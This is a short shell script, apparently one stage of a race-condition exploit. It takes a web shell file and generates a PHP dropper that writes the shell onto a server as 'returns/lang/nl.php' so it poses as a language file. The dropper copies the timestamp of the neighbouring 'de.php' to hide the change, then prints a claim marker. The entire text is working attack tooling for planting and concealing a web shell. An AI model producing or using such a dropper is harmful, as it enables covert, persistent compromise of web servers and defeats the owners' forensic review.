#!/bin/sh
# mkdrop.sh SHELL OUT: the second raced file: writes SHELL as returns/lang/nl.php
b=$(base64 -w0 < "$1")
printf '<?php $p = dirname(__DIR__, 3) . "/returns/lang/nl.php"; file_put_contents($p, base64_decode("%s")); touch($p, filemtime(dirname($p) . "/de.php")); echo "cl41m ", $p, " ", filesize($p), "\\n";\n' "$b" > "$2"
